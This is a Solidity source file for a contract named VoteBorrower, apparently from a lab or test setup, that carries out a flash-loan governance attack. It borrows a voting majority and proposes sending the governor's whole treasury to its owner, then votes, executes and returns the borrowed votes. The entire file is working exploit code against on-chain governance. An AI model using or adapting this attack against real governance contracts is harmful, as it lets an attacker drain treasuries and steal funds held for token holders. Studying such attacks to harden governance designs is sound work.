// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {FlashBorrower, FlashLender} from "./FlashLender.sol";
import {Governor} from "./Governor.sol";
import {IERC20} from "./IERC20.sol";

/// @title Attack: borrows a majority of the votes, proposes that the treasury be its owner's, votes, executes, and
/// gives the votes back.
contract VoteBorrower is FlashBorrower {
    Governor private immutable governor;
    IERC20 private immutable loot;

    constructor(FlashLender lender, Governor governor_, IERC20 loot_) FlashBorrower(lender) {
        governor = governor_;
        loot = loot_;
    }

    function attack(uint256 votes) external {
        borrowAndUse(governor.token(), votes);
    }

    function use(uint256) internal override {
        bytes memory data = abi.encodeCall(IERC20.transfer, (owner, loot.balanceOf(address(governor))));
        uint256 id = governor.propose(address(loot), data);
        governor.vote(id);
        governor.execute(id);
    }
}
